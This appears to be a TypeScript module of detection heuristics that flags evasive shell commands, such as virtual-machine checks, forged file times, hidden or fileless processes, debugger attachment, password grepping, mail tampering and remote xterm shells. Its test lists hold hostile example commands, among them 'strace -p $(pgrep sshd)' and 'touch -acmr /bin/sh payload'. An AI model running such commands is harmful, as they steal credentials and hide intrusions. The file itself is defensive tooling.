// Evasion: asking whether somebody watches, forging times, hiding processes, running what never touches the disk.
import type { CommandFact } from "../../../../shared/facts.ts";
import { severity } from "../bands.ts";
import { type Heuristic, type View, changing, firstOf, onAnyCommand, onCode, onCommand, onPath } from "../heuristic.ts";
import { given, joined, operands, privileged } from "../read.ts";

const vendor =
  /virtual ?box|vbox|vmware|parallels|qemu|hyper-?v|\bkvm\b|\bxen\b|bochs|innotek|virtual machine|hypervisor/giu;
const machineFacts =
  /^(?:systemd-detect-virt|dmidecode|lscpu|lspci|lshw|hostnamectl|dmesg|ioreg|system_profiler|sysctl|virt-what|csrutil|lsmod|kextstat)$/u;

/** The command stands inside `[ "$(…)" = … ]`. */
function decides(command: CommandFact, view: View): boolean {
  const parent = command.parent === undefined ? undefined : view.facts.commands[command.parent];
  return command.wrappers.includes("$()") && parent !== undefined && /^(?:\[|\[\[|test)$/u.test(parent.program);
}

/** Where the secrets stand in plain sight, and a filter that picks them out. */
const talksOfSecrets = /^(?:ps|history|docker|podman|kubectl|crontab|strings|systemctl|pgrep|lsof)$/u;
const secretFilter = /passw(?:or)?d|passwd|secret|api[_-]?key|token|credential|-p\S*pass/iu;

export const evasion: readonly Heuristic[] = [
  {
    id: "virtual-machine-check",
    threat: "Discovery",
    technique: "T1497.001",
    score: severity.ask,
    check: firstOf(
      onCommand(machineFacts, (command, view) => {
        const line = joined(command);
        if (command.program === "sysctl" && /hw\.hv_vendor|hv_vmm_present|machdep\.cpu\.features/u.test(line))
          return "It asks whether this is a virtual machine";
        if (decides(command, view) && /^(?:ioreg|system_profiler|sysctl|csrutil|dmidecode)$/u.test(command.program))
          return "It goes on only on a certain kind of machine";
        const filters = view.facts.commands.filter((other) => other !== command && /^[ef]?grep$/u.test(other.program));
        const named = new Set(filters.flatMap((filter) => joined(filter).toLowerCase().match(vendor) ?? []));
        return named.size >= 2 ? "It looks for signs of a virtual machine" : null;
      }),
      onAnyCommand([{ words: /\/sys\/|\/proc\//u }], (command) =>
        /\/sys\/class\/dmi\/id\/(?:product_name|sys_vendor|board_vendor)|\/proc\/scsi\/scsi|\/sys\/hypervisor/u.test(
          joined(command),
        ) && new Set(joined(command).toLowerCase().match(vendor) ?? []).size >= 2
          ? "It looks for signs of a virtual machine"
          : null,
      ),
    ),
    examples: {
      risky: [
        "ioreg -l | grep -iE 'virtualbox|vmware|parallels'",
        "sysctl -n hw.hv_vendor",
        `if [ "$(sysctl -n hw.model | grep -v Mac)" != "" ]; then exit; fi`,
      ],
      honest: ["lscpu | grep -i model", "systemd-detect-virt", "dmesg | grep -i usb"],
    },
  },
  {
    id: "timestamp-copied",
    threat: "Evidence tampering",
    technique: "T1070.006",
    score: severity.ask,
    check: firstOf(
      onCommand(["touch"], (command) => {
        const list = command.arguments;
        const at = list.findIndex((argument) => /^-[a-z]*r$/u.test(argument));
        if (at >= 0 && /^\/(?:usr\/)?s?bin\/|^\/etc\/|^\/lib/u.test(list[at + 1] ?? ""))
          return "It gives a file the time of a part of the system";
        const stamp = list.findIndex((argument) => /^-[a-z]*t$/u.test(argument));
        return stamp >= 0 && /^\d{8,12}(?:\.\d\d)?$/u.test(list[stamp + 1] ?? "")
          ? "It sets a file's time to one of its choice"
          : null;
      }),
      onCommand(["date", "timedatectl", "hwclock"], (command, view) => {
        const line = joined(command);
        const sets =
          command.program === "date"
            ? /(?:^|\s)(?:-s\b|--set\b)/u.test(line) || operands(command).some((operand) => /^\d{8,12}$/u.test(operand))
            : /set-time|--set\b/u.test(line);
        return sets && view.byProgram.has("touch") ? "It turns the clock back to forge a file's time" : null;
      }),
    ),
    examples: {
      risky: [
        "touch -acmr /bin/sh payload",
        "touch -t 197001010000.00 a",
        "date 010100001971; touch x; date 010112002026",
      ],
      honest: ["touch -d '1 hour ago' a", "touch -r a.txt b.txt", "date +%s", "sudo date -s '2026-01-01'"],
    },
  },
  {
    id: "process-hidden",
    threat: "Obfuscation",
    technique: "T1564",
    score: severity.deny,
    check: firstOf(
      onCommand(["mount"], (command) =>
        given(command, "B", "bind", "rbind") &&
        operands(command).some((operand) => /^\/proc\/(?:\d+|\$)/u.test(operand))
          ? "It hides a process from view"
          : null,
      ),
      onCode((code) =>
        /memfd_create|\/proc\/self\/fd\/|\bfexecve\b|ptrace\s*\(|process_vm_writev|setproctitle|prctl\s*\(\s*15/iu.test(
          code.text.slice(0, 65_536),
        ) && code.command !== undefined
          ? "Its code runs what is on no disk, or gets into other processes"
          : null,
      ),
      onAnyCommand([{ words: /\/fd\//u }], (command) =>
        /\/proc\/(?:self|\$\$|\$\w+|\d+)\/fd\/\d+$/u.test(command.text.split(/\s/u, 1)[0] ?? "")
          ? "It runs a program that is on no disk"
          : null,
      ),
    ),
    examples: {
      risky: ["mount --bind /tmp/empty /proc/1234", `python3 -c "import ctypes; ctypes.CDLL(None).memfd_create('',1)"`],
      honest: ["mount --bind src dst", "cat /proc/self/fd/0"],
    },
  },
  {
    id: "process-entered",
    threat: "Credential access",
    technique: "T1055.008",
    score: severity.ask,
    check: onCommand(
      ["gdb", "strace", "ltrace", "frida", "lldb", "dtrace", "bpftrace", "dtruss", "sysdig"],
      (command) => {
        const line = joined(command);
        const attached = /(?:^|\s)(?:-p|--pid|--attach)[= ]?\$?[\d({"'`]/u.test(line) || command.dynamic;
        if (!attached) return null;
        return /\bcall\b|system\(|dump\b|-e\s*(?:trace=)?\S*(?:read|write)|generate-core|print\(|-s\s*\d{3,}/u.test(
          line,
        ) || privileged(command)
          ? `${command.program} reads or changes another process`
          : null;
      },
    ),
    examples: {
      risky: [`gdb -p 1 --batch -ex 'call (int)system("id")'`, "strace -f -e read -p $(pgrep sshd) -o /tmp/l"],
      honest: ["gdb ./app core", "strace -c ls", "strace -p 4242"],
    },
  },
  {
    id: "secret-filtered",
    threat: "Credential access",
    technique: "T1552",
    score: severity.ask,
    check: onCommand(["grep", "egrep", "rg", "awk"], (command, view) => {
      if (command.position === 0 || !secretFilter.test(joined(command))) return null;
      const source = view.facts.commands.find(
        (other) =>
          other.pipeline === command.pipeline &&
          other.position < command.position &&
          talksOfSecrets.test(other.program) &&
          (!/^(?:docker|podman|kubectl|systemctl)$/u.test(other.program) ||
            /\b(?:inspect|describe|show|env|get)\b/u.test(joined(other))),
      );
      return source === undefined ? null : `It picks passwords out of what ${source.program} shows`;
    }),
    examples: {
      risky: ["ps aux | grep -i password=", "docker inspect web | grep -i secret", "history | grep -i passwd"],
      honest: ["ps aux | grep node", "grep -rn password src", "env | grep PATH"],
    },
  },
  {
    id: "mail-changed",
    threat: "Evidence tampering",
    technique: "T1070.008",
    score: severity.ask,
    check: onPath(changing, (path) =>
      /^\/(?:private\/)?var\/(?:spool\/)?mail(?:\/|$)/u.test(path.path) ? "It changes people's mail" : null,
    ),
    examples: { risky: ["cp -R x /var/spool/mail/copy/", "rm /var/mail/root"], honest: ["ls /var/mail"] },
  },
  {
    id: "screen-sent",
    threat: "Reverse shell",
    technique: "T1059.004",
    score: severity.ask,
    check: onCommand(["xterm", "xnest", "rxvt", "urxvt"], (command) =>
      /(?:^|\s)--?display[= ]\s*\S+\.\S+:\d/u.test(joined(command))
        ? "It shows a shell on another machine's screen"
        : null,
    ),
    examples: { risky: ["xterm -display 10.0.0.1:1"], honest: ["xterm -e top", "xterm -display :0"] },
  },
];
